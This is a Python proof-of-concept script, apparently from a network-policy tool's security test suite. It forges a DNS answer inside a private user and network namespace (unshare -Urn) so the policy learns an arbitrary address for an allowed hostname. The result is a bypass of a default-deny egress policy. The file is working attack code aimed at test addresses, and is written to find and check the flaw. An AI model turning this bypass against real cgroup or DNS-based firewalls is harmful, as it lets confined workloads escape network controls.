#!/usr/bin/env python3
"""ATTACK 1 (unprivileged process in a target cgroup): teach the policy any address for any
allowed name, by answering its own DNS query in a private network namespace.

Why it works: `dns_pending` and `learned` know nothing of network namespaces. The ingress
program learns when the answer's source address equals the address the query went to; in a
network namespace of its own (unshare -Urn, allowed to every user where unprivileged user
namespaces are on: Debian, Ubuntu, Fedora defaults) the workload owns every address, binds
port 53 on the resolver's address, and answers itself. The process stays in its cgroup, so
the answer is learned for the target cgroup, and the learned entry then opens the address
for every socket of that cgroup in the host's namespace too.

Policy under attack: sockets.connect default deny, UDP 53 to the resolver 198.18.77.53 only,
`allow` port 443 to api.example.test by name. Expected: 203.0.113.66 (never an answer of
the real resolver) is refused. Observed: it is allowed after the attack.

Run as root: .venv/bin/python attack/netns_fake_resolver.py  (exit 0 = attack succeeded)
Variant `--network`: the same with network.egress/ingress default deny in place of
sockets.connect (the resolver allowed by address both ways).
"""

from __future__ import annotations

import json
import sys

import common

RESOLVER = "198.18.77.53"
EVIL = "203.0.113.66"

ATTACKER = r'''
import json, os, socket, struct, subprocess, sys, threading
RESOLVER, EVIL = sys.argv[1], sys.argv[2]

def connect(addr):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect((addr, 443))
        s.send(b"x")  # a real packet: network.egress decides it (EPERM when dropped)
        return "ok"
    except OSError as e:
        return os.strerror(e.errno)
    finally:
        s.close()

if sys.argv[3] == "host":
    print(json.dumps({"netns": os.readlink("/proc/self/ns/net"), "uid": os.getuid(),
                      "cgroup": open("/proc/self/cgroup").read().strip(), "connect": connect(EVIL)}))
    sys.exit()

# inside `unshare -Urn`: root of a user namespace, in a network namespace of our own
subprocess.run(["ip", "link", "set", "lo", "up"], check=True)
subprocess.run(["ip", "addr", "add", RESOLVER + "/32", "dev", "lo"], check=True)
# One socket on the resolver's address and port 53 talks to itself: the query it sends to
# RESOLVER:53 is noted in dns_pending (its cookie, the id, server RESOLVER); the "answer" it
# then sends to itself comes from RESOLVER:53 to that same socket, with that id. Every
# packet goes to RESOLVER port 53, which the policy must allow for DNS to work at all.
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
sock.bind((RESOLVER, 53))
sock.settimeout(5)
name = b"".join(bytes([len(l)]) + l for l in b"api.example.test".split(b".")) + b"\0"
q = struct.pack("!HHHHHH", 0x4242, 0x0100, 1, 0, 0, 0) + name + struct.pack("!HH", 1, 1)
sock.sendto(q, (RESOLVER, 53))
got_query, _ = sock.recvfrom(4096)
ans = q[:2] + struct.pack("!HHHHH", 0x8180, 1, 1, 0, 0) + q[12:]
ans += struct.pack("!HHHIH", 0xC00C, 1, 1, 3600, 4) + socket.inet_aton(EVIL)
sock.sendto(ans, (RESOLVER, 53))
reply, src = sock.recvfrom(4096)
print(json.dumps({"netns": os.readlink("/proc/self/ns/net"), "answer_from": src, "answer_bytes": len(reply)}))
'''


def main() -> int:
    network = "--network" in sys.argv
    cgs = common.setup("workload")
    target = cgs["workload"]
    if network:
        spec = {
            "network": {
                "egress": {"default": "deny", "rules": [
                    {"action": "allow", "protocol": "udp", "cidrs": [f"{RESOLVER}/32"], "ports": [53]},
                    {"action": "allow", "fqdns": ["api.example.test"]}]},
                "ingress": {"default": "deny", "rules": [
                    {"action": "allow", "cidrs": [f"{RESOLVER}/32"]},
                    {"action": "allow", "fqdns": ["api.example.test"]}]},
            }
        }
    else:
        spec = {
            "sockets": {"connect": {"default": "deny", "rules": [
                {"action": "allow", "protocol": "udp", "cidrs": [f"{RESOLVER}/32"], "ports": [53]},
                {"action": "allow", "ports": [443], "fqdns": ["api.example.test"]}]}}
        }
    policy = common.write_policy("netns", common.policy("attack-netns", [target], spec))
    common.cli("apply", str(policy))
    script = f"/tmp/{common.TAG}-attacker.py"
    open(script, "w").write(ATTACKER)

    def run(*argv: str) -> dict:
        done = common.in_cgroup(target, argv)
        if done.returncode != 0:
            sys.exit(f"{argv}: {done.stdout} {done.stderr}")
        return json.loads(done.stdout.strip().splitlines()[-1])

    before = run("/usr/bin/python3", script, RESOLVER, EVIL, "host")
    print("before:", before)
    attack = run("unshare", "-Urn", "/usr/bin/python3", script, RESOLVER, EVIL, "fakens")
    print("attack (private netns):", attack)
    after = run("/usr/bin/python3", script, RESOLVER, EVIL, "host")
    print("after: ", after)
    for row in common.learned_rows():
        print("learned:", json.dumps(row)[:600])
    broke = before["connect"] != "ok" and after["connect"] == "ok"
    print("RESULT:", "BROKE (address opened by a self-made answer)" if broke else "held")
    return 0 if broke else 1


if __name__ == "__main__":
    sys.exit(main())
